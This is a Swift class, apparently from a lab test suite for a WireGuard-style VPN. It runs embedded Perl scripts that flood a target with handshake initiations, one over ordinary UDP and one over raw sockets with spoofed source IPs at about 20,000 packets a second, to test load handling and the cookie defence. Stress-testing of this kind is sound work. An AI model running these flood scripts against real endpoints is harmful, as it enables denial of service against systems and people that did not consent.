import Crypto
import Lab
import Wire

/// Handshake initiations with a right mac1 and nothing else right, many times a second: what anybody can send who knows the
/// target's public key. It ends by itself after a minute.
final class HandshakeFlood {
    private let program: Program

    /// - Parameter victim: the target's process, stopped while each burst is sent. A fast target then meets all of the burst
    ///   at once and is under load, though the flood is a light one.
    init(from host: Host, to target: Endpoint, publicKey: Bytes32, burst: Int = 300, stopping victim: Int32? = nil)
        throws(LabError)
    {
        let message = Self.message(to: publicKey).hexadecimal
        program = try host.start(
            "perl", "-MSocket", "-e", Self.script, "\(target.address)", "\(target.port)", message, "\(burst)",
            "\(victim ?? 0)", log: "flood")
        try program.waitForLog("bursts")
    }

    /// Initiations from as many sources as there are messages, which nobody has: 20,000 a second, until it is stopped. Every
    /// second one pretends to have been given a cookie.
    init(spoofedFrom host: Host, to target: Endpoint, publicKey: Bytes32) throws(LabError) {
        program = try host.start(
            "perl", "-MSocket", "-MTime::HiRes=time", "-e", Self.spoofingScript, "\(target.address)", "\(target.port)",
            Self.message(to: publicKey).hexadecimal, log: "spoofed-flood")
        try program.waitForLog("sent")
    }

    /// Messages that the spoofing flood has sent so far.
    var sentCount: Int { program.log.split(separator: "\n").last.flatMap { Int($0.dropFirst(5)) } ?? 0 }

    var isRunning: Bool { program.isRunning }

    func stop() { program.stop() }

    /// One that costs the receiver a Diffie–Hellman to refuse, unless it asks for a cookie first.
    static func message(to publicKey: Bytes32) -> [UInt8] {
        let key = BLAKE2s.hash(Array("mac1----".utf8), publicKey.bytes).bytes
        let body = [1, 0, 0, 0] + (0..<112).map { UInt8($0) }
        return body + BLAKE2s.mac16(key: key, body.span) + Array(repeating: 0, count: 16)
    }

    /// The kernel fills in the lengths and checksums of the IP header; UDP's may be zero.
    private static let spoofingScript = """
        my ($address, $port, $message) = @ARGV;
        socket(my $socket, AF_INET, SOCK_RAW, 255) or die "socket: $!";
        my $target = pack_sockaddr_in(0, inet_aton($address));
        my @payloads = (pack("H*", $message), substr(pack("H*", $message), 0, -16) . "a cookie of none");
        $| = 1;
        my $begin = time;
        for (my $sent = 0; $sent < 1_000_000; ) {
            for (1 .. 200) {
                my $payload = $payloads[++$sent % 2];
                my $source = pack("CCn", 198, 19, $sent % 65521);
                my $udp = pack("nnnn", 1024 + $sent % 64000, $port, 8 + length $payload, 0) . $payload;
                my $ip = pack("CCnnnCCn", 0x45, 0, 0, 0, 0, 64, 17, 0) . $source . inet_aton($address);
                send($socket, $ip . $udp, 0, $target);
            }
            print "sent $sent\\n" if $sent % 2000 == 0;
            my $early = $begin + $sent / 20000 - time;
            select(undef, undef, undef, $early) if $early > 0;
        }
        """

    private static let script = """
        my ($address, $port, $message, $burst, $victim) = @ARGV;
        socket(my $socket, AF_INET, SOCK_DGRAM, 0) or die "socket: $!";
        my $target = pack_sockaddr_in($port, inet_aton($address));
        $SIG{TERM} = sub { kill CONT => $victim if $victim; exit };
        $| = 1;
        for (1 .. 600) {
            kill STOP => $victim if $victim;
            send($socket, pack("H*", $message), 0, $target) for 1 .. $burst;
            kill CONT => $victim if $victim;
            print "bursts\\n" if $_ == 1;
            select(undef, undef, undef, 0.1);
        }
        """
}
